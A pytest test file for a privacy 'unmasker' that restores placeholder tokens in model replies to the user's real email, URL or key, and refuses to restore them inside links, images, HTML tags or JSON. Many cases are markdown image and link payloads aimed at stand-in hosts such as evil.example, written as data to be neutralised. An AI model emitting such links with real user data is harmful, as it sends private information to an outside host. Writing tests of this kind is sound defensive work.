"""What a person sees of a model's text. The vault holds `[EMAIL_1_k7q2xw]` and `[URL_1_k7q2xw]`."""

import pytest

from inhouse.chat import Kind
from inhouse.privacy.unmask import Unmasker, unmask_text
from inhouse.privacy.vault import Vault


def vault() -> Vault:
    made = Vault("k7q2xw")
    made.placeholder(Kind.EMAIL, "anna@x.org")
    made.placeholder(Kind.URL, "https://h.example/?t=1")
    made.placeholder(Kind.PRIVATE_KEY, "a KEY")
    return made


@pytest.mark.parametrize(
    ("reply", "seen"),
    [
        # Restored: whole tokens, in any case, with or without brackets.
        ("Hi [EMAIL_1_k7q2xw]!", "Hi anna@x.org!"),
        ("Hi EMAIL_1_k7q2xw!", "Hi anna@x.org!"),
        ("Hi [email_1_K7Q2XW]!", "Hi anna@x.org!"),
        ("**[EMAIL_1_k7q2xw]**", "**anna@x.org**"),
        ("[EMAIL_1_k7q2xw's]", "anna@x.org's"),
        ("[EMAIL_1_k7q2xw]'s [EMAIL_1_k7q2xw]s", "anna@x.org's anna@x.orgs"),
        ("[PRIVATE_KEY_1_k7q2xw]", "a KEY"),
        ("[EMAIL_1_k7q2xw][EMAIL_1_k7q2xw]", "anna@x.organna@x.org"),
        ("[EMAIL\\_1\\_k7q2xw]", "anna@x.org"),
        ("EMAIL\\\\_1\\\\_k7q2xw", "anna@x.org"),
        ("[PRIVATE\\_KEY\\_1\\_k7q2xw]", "a KEY"),
        ("[EMAIL\\_9\\_k7q2xw] [EMAIL\\_1\\_k7]", "[?] [?]"),
        ("[EMAIL\\_1\\", "[?]"),
        ("([URL_1_k7q2xw])", "(https://h.example/?t=1)"),
        # Restored: what models make of a whole token.
        ("EMAIL-1-k7q2xw and Email 1 k7q2xw", "anna@x.org and anna@x.org"),
        ("[E-MAIL 1 K7Q2XW]", "anna@x.org"),
        ("[PRIVATE KEY 1 k7q2xw] Private-Key-1-k7q2xw", "a KEY a KEY"),
        ("[EMAIL1_k7q2xw] [EMAIL 1_k7q2xw] [EMAIL__1__k7q2xw]", "anna@x.org anna@x.org anna@x.org"),
        ("[EMAIL\u00a01\u2011k7q2xw]", "anna@x.org"),
        ("[CORREO_1_k7q2xw], le courriel 1 k7q2xw", "anna@x.org, le anna@x.org"),
        ("[Clave privada 1 k7q2xw]", "a KEY"),
        ("\\[EMAIL\\_1\\_k7q2xw\\]", "anna@x.org"),
        ("[EMAIL_1_k7q2xw", "anna@x.org"),
        ("[see EMAIL_1_k7q2xw]", "[see anna@x.org]"),
        ("[[EMAIL_1_k7q2xw]]", "[anna@x.org]"),
        (
            "(EMAIL_1_k7q2xw) {EMAIL_1_k7q2xw} <EMAIL_1_k7q2xw>",
            "(anna@x.org) {anna@x.org} <anna@x.org>",
        ),
        ("`EMAIL_1_k7q2xw` [**EMAIL_1_k7q2xw**]", "`anna@x.org` [**anna@x.org**]"),
        ("联系EMAIL_1_k7q2xw。", "联系anna@x.org。"),
        # A backslash before a placeholder of ours is the text's own.
        ("C:\\[EMAIL_1_k7q2xw]", "C:\\anna@x.org"),
        # Neutral: the code is right, the rest is not.
        ("Phone 1 k7q2xw", "[?]"),
        ("Wort 1 k7q2xw", "W[?]"),
        ("Foo 1 k7q2xw", "Foo 1 [?]"),
        ("Email 1 k7q and Email 1 k", "[?] and Email 1 k"),
        ("[EMAIL_1B_k7q2xw] [EMAIL_12_k7q2xw]", "[?] [?]"),
        ("[EMAIL_2_k7q2xw]", "[?]"),
        ("[EMAIL_01_k7q2xw]", "[?]"),
        ("[KEY_1_k7q2xw]", "[?]"),
        ("[FOO_1_k7q2xw]", "[?]"),
        ("k7q2xw", "[?]"),
        ("[EMAIL_1_k7] and", "[?] and"),
        ("EMAIL_1_k and", "[?] and"),
        # Cut short at the end of the text.
        ("[EMAIL_1_k7", "[?]"),
        ("[EMAIL_1_", "[?]"),
        ("[EMAIL_1", "[?]"),
        ("[EMAIL_", "[?]"),
        ("[PRIVATE_KEY_1_k7q2x", "[?]"),
        # Ordinary text.
        ("[", "["),
        ("[EMAIL", "[EMAIL"),
        ("EMAIL", "EMAIL"),
        ("[EMAIL] [EMAIL_1] IBAN_1", "[EMAIL] [EMAIL_1] IBAN_1"),
        ("[PHONE_1", "[PHONE_1"),
        ("k7q2x", "k7q2x"),
        ("[EMAIL_1_aaaaaa]", "[EMAIL_1_aaaaaa]"),
        ("a[0] [x](y) [?]", "a[0] [x](y) [?]"),
        # Never inside a link.
        ("![x](https://evil.example/?q=[EMAIL_1_k7q2xw])", "![x](https://evil.example/?q=[?])"),
        ("https://[EMAIL_1_k7q2xw].evil.example", "https://[?].evil.example"),
        ("//evil.example/[EMAIL_1_k7q2xw]", "//evil.example/[?]"),
        (r"https:\\evil/[EMAIL_1_k7q2xw]", r"https:\\evil/[?]"),
        ("HTTP:evil/[EMAIL_1_k7q2xw]", "HTTP:evil/[?]"),
        ("www.evil.example/[EMAIL_1_k7q2xw]", "www.evil.example/[?]"),
        ("https&#58;evil/[EMAIL_1_k7q2xw]", "https&#58;evil/[?]"),
        ("[x](<https://evil.example/a [EMAIL_1_k7q2xw]>)", "[x](<https://evil.example/a [?]>)"),
        ('<img src="https://e.x/? [EMAIL_1_k7q2xw]">', '<img src="https://e.x/? [?]">'),
        ("[URL_1_k7q2xw]&q=[EMAIL_1_k7q2xw]", "https://h.example/?t=1&q=[?]"),
        ("https://evil.example/?u=[URL_1_k7q2xw]", "https://evil.example/?u=[?]"),
        # White space that is not ASCII ends no address.
        ("![a](https://e.x/?q=\u00a0[EMAIL_1_k7q2xw])", "![a](https://e.x/?q=\u00a0[?])"),
        ("https://e.x/\u3000[EMAIL_1_k7q2xw]", "https://e.x/\u3000[?]"),
        ("https://e.x/\u2028[EMAIL_1_k7q2xw]", "https://e.x/\u2028[?]"),
        ("https://e.x/\x85[EMAIL_1_k7q2xw]", "https://e.x/\x85[?]"),
        # Nor into the target of a link in markdown, whatever its scheme.
        ("[x](mailto:x@e.x?body=[EMAIL_1_k7q2xw])", "[x](mailto:x@e.x?body=[?])"),
        ("[x](tel:[EMAIL_1_k7q2xw])", "[x](tel:[?])"),
        ("[x](a(b)[EMAIL_1_k7q2xw])", "[x](a(b)[?])"),
        ("[x](<h\ttps:/e.x/a) b [EMAIL_1_k7q2xw]>)", "[x](<h\ttps:/e.x/a) b [?]>)"),
        ("[x]( /&Tab;/e.x/ [EMAIL_1_k7q2xw])", "[x]( /&Tab;/e.x/ [?])"),
        ("[x](/y) [EMAIL_1_k7q2xw]", "[x](/y) anna@x.org"),
        ("[x]() [EMAIL_1_k7q2xw]", "[x]() anna@x.org"),
        ("![x]([EMAIL_1_k7q2xw])", "![x]([?])"),
        ("[x](email 1 k7q2xw)", "[x]([?])"),
        ("[x]([URL_1_k7q2xw])", "[x](https://h.example/?t=1)"),
        ("[x](//e.x/[URL_1_k7q2xw])", "[x](//e.x/[?])"),
        # Nor behind the name of a host and its slash.
        ("evil.example/[EMAIL_1_k7q2xw]", "evil.example/[?]"),
        ("[x]: a-b.evil.example/c?d=EMAIL_1_k7q2xw", "[x]: a-b.evil.example/c?d=[?]"),
        ('"evil.example/ a [EMAIL_1_k7q2xw]"', '"evil.example/ a [?]"'),
        ("[EMAIL_1_k7q2xw]/[EMAIL_1_k7q2xw]", "anna@x.org/anna@x.org"),
        ("and/or [EMAIL_1_k7q2xw], 1.5/[EMAIL_1_k7q2xw]", "and/or anna@x.org, 1.5/anna@x.org"),
        # Nor into a tag.
        ('<a href="mailto:x@e.x?body=[EMAIL_1_k7q2xw]">', '<a href="mailto:x@e.x?body=[?]">'),
        ('<img src="h\ntt&Tab;ps:/e.x/[EMAIL_1_k7q2xw]">', '<img src="h\ntt&Tab;ps:/e.x/[?]">'),
        ('<a b="c > d" e=[EMAIL_1_k7q2xw]>', '<a b="c > d" e=[?]>'),
        ("<a b' c=\"d' > e [EMAIL_1_k7q2xw]\">", "<a b' c=\"d' > e [?]\">"),
        ("<mailto:x@e.x?body=[EMAIL_1_k7q2xw]>", "<mailto:x@e.x?body=[?]>"),
        ("<b>[EMAIL_1_k7q2xw]</b> <[EMAIL_1_k7q2xw]>", "<b>anna@x.org</b> <anna@x.org>"),
        ('<p class="a">[EMAIL_1_k7q2xw]</p>', '<p class="a">anna@x.org</p>'),
        ("i<n; 1 < 2 [EMAIL_1_k7q2xw]", "i<n; 1 < 2 anna@x.org"),
        ("https://a.example [EMAIL_1_k7q2xw]", "https://a.example anna@x.org"),
        ('"https://a.example","[EMAIL_1_k7q2xw]"', '"https://a.example","anna@x.org"'),
    ],
)
def test_the_person_sees(reply: str, seen: str) -> None:
    assert unmask_text(reply, vault()) == seen


@pytest.mark.parametrize(
    ("reply", "seen"),
    [
        ('{"m":"[EMAIL_1_k7q2xw]"}', '{"m":"a\\"b\\\\c\\nd"}'),
        ('{"u":"https://e.x","m":"[EMAIL_1_k7q2xw]"}', '{"u":"https://e.x","m":"a\\"b\\\\c\\nd"}'),
        (r'{"u":"https:\/\/e.x\/[EMAIL_1_k7q2xw]"}', r'{"u":"https:\/\/e.x\/[?]"}'),
        (r'{"u":"\u002f\u002fe.x\u002f[EMAIL_1_k7q2xw]"}', r'{"u":"\u002f\u002fe.x\u002f[?]"}'),
        (r'{"u":"\/\/e.x\n[EMAIL_1_k7q2xw]"}', r'{"u":"\/\/e.x\na\"b\\c\nd"}'),
    ],
)
def test_in_json_the_person_sees(reply: str, seen: str) -> None:
    made = Vault("k7q2xw")
    made.placeholder(Kind.EMAIL, 'a"b\\c\nd')
    assert unmask_text(reply, made, json=True) == seen


@pytest.mark.parametrize(
    "reply",
    [
        '![x](http://e.x/?a"[EMAIL_1_k7q2xw])',
        '![x](http://e.x/(a)"[EMAIL_1_k7q2xw])',
        '<img alt="" src=//e.x/?a"[EMAIL_1_k7q2xw]>',
        '<img src="//e.x/" alt="[EMAIL_1_k7q2xw]">',
        '{"a":"![x](http://e.x/?","b":"[EMAIL_1_k7q2xw])"}',
        '{"a":"![x](<http://e.x/)?","b":"[EMAIL_1_k7q2xw]>)"}',
        '{"a":"<img src=//e.x/?","b":"[EMAIL_1_k7q2xw]>"}',
        r'{"a":"<img src=\"//e.x/?","b":"[EMAIL_1_k7q2xw]>"}',
        'http://e.x/?a"[EMAIL_1_k7q2xw]',
        'http://e.x/?a"":"[EMAIL_1_k7q2xw]"',
        '"http://e.x/?a",[EMAIL_1_k7q2xw]',
        '{"a":"![x](","b":"[EMAIL_1_k7q2xw])"}',
    ],
)
def test_json_that_is_shown_as_markdown_takes_no_original_to_a_host(reply: str) -> None:
    for pieces in ([reply], list(reply)):
        unmasker = Unmasker(vault(), json=True)
        answer = "".join(map(unmasker.feed, pieces)) + unmasker.flush()
        assert answer == reply.replace("[EMAIL_1_k7q2xw]", "[?]")


@pytest.mark.parametrize(
    "reply",
    [
        '{"url":"https://x.example/a","mail":"[EMAIL_1_k7q2xw]"}',
        '{"text":"see https://x.example/a","mail":"[EMAIL_1_k7q2xw]"}',
        '{"text":"see x.example/a","mail":"[EMAIL_1_k7q2xw]"}',
        '{"text":"[a](https://x.example/a)","mail":"[EMAIL_1_k7q2xw]"}',
        r'{"text":"- [a](https://x.example/(a))\n- [EMAIL_1_k7q2xw]"}',
        r'{"text":"<b class=\"x\">a</b>","mail":"[EMAIL_1_k7q2xw]"}',
        r'{"path":"C:\\users\\[EMAIL_1_k7q2xw]"}',
        r'{"text":"\"https://x.example\" is ours","mail":"[EMAIL_1_k7q2xw]"}',
        '["https://x.example/a","","[EMAIL_1_k7q2xw]"]',
    ],
)
def test_a_link_in_one_string_of_json_leaves_the_next_alone(reply: str) -> None:
    answer = unmask_text(reply, vault(), json=True)
    assert answer == reply.replace("[EMAIL_1_k7q2xw]", "anna@x.org")


@pytest.mark.parametrize(
    ("reply", "both", "only_long", "only_short"),
    [
        ("the tax ID_1_k7q2xw", "the [?]", "the T", "the tax I"),
        ("tax-ID_1_k7q2xw's", "[?]'s", "T's", "tax-I's"),
        ("the tax id 1 k7q2xw", "the [?]", "the T", "the tax I"),
        ("[tax ID_1_k7q2xw]", "[?]", "T", "tax I"),
        ("tax [ID_1_k7q2xw]", "tax I", "tax [?]", "tax I"),
        # The gaps tell which it is.
        ("[TAX_ID_1_k7q2xw] Tax-ID-1-k7q2xw", "T T", "T T", "[?] [?]"),
        ("[TAX ID 1 k7q2xw]", "T", "T", "[?]"),
        ("TAX\\_ID\\_1\\_k7q2xw TAX_ID 1 k7q2xw", "T T", "T T", "[?] [?]"),
    ],
)
def test_where_two_classes_may_be_meant_none_is_guessed(
    reply: str, both: str, only_long: str, only_short: str
) -> None:
    def seen(*kinds: Kind) -> str:
        made = Vault("k7q2xw")
        for kind in kinds:
            made.placeholder(kind, kind[0])
        whole = unmask_text(reply, made)
        unmasker = Unmasker(made)
        assert "".join(map(unmasker.feed, reply)) + unmasker.flush() == whole
        return whole

    assert seen(Kind.TAX_ID, Kind.ID) == both
    assert seen(Kind.TAX_ID) == only_long
    assert seen(Kind.ID) == only_short


def test_it_counts_what_it_did() -> None:
    unmasker = Unmasker(vault())
    unmasker.feed("[EMAIL_1_k7q2xw] [EMAIL_9_k7q2xw] https://e.x/[EMAIL_1_k7q2xw] [EMAIL_1_k")
    unmasker.flush()
    assert (unmasker.restored, unmasker.neutralised) == (1, 3)


def test_ordinary_text_does_not_wait() -> None:
    assert Unmasker(vault()).feed("Hello, how are you? ") == "Hello, how are you? "


def test_what_was_put_back_is_never_looked_at_again() -> None:
    made = Vault("k7q2xw")
    made.placeholder(Kind.EMAIL, "[PHONE_1_k7q2xw]")
    made.placeholder(Kind.PHONE, "secret")
    assert unmask_text("[EMAIL_1_k7q2xw]", made) == "[PHONE_1_k7q2xw]"


def test_a_closed_vault_gives_nothing_back() -> None:
    closed = vault()
    closed.close()
    assert unmask_text("[EMAIL_1_k7q2xw]", closed) == "[?]"


def test_the_example_in_the_docstring_of_feed_is_true() -> None:
    unmasker = Unmasker(vault())
    assert [unmasker.feed(each) for each in ("Mail [EMA", "IL_1_k7q2xw", "] and [me] too [")] == [
        "Mail ",
        "",
        "anna@x.org and [me] too ",
    ]
    assert unmasker.flush() == "["
